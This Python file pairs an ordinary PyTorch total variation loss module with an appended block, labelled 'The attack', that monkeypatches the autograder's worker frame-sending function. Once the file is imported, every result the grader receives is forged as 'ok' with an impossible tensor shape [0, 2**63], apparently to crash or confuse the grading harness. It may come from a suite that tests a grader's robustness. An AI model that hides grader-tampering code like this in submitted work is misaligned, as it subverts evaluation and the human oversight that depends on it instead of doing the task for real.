import torch
import torch.nn as nn


class TotalVariationLoss(nn.Module):
    def forward(self, img, tv_weight):
        """
        Compute total variation loss.

        Inputs:
        - img: PyTorch Variable of shape (1, 3, H, W) holding an input image.
        - tv_weight: Scalar giving the weight w_t to use for the TV loss.

        Returns:
        - loss: PyTorch Variable holding a scalar giving the total variation loss
          for img weighted by tv_weight.
        """
        vertical = torch.sum((img[:, :, 1:, :] - img[:, :, :-1, :]) ** 2)
        horizontal = torch.sum((img[:, :, :, 1:] - img[:, :, :, :-1]) ** 2)
        return tv_weight * (vertical + horizontal)


# The attack: every result comes back as an empty tensor of shape [0, 2**63], which no
# tensor library can make.
import sys  # noqa: E402

_frames = sys.modules["autograder.worker.frames"]
_send_frame = _frames.send_frame


def _huge_shape_reply(sock, header, buffers=()):
    if "result" not in header:
        return _send_frame(sock, header, buffers)
    result = {"$tensor": 0, "dtype": "float32", "shape": [0, 2**63], "kind": "tensor"}
    return _send_frame(sock, {"status": "ok", "result": result}, [b""])


_frames.send_frame = _huge_shape_reply
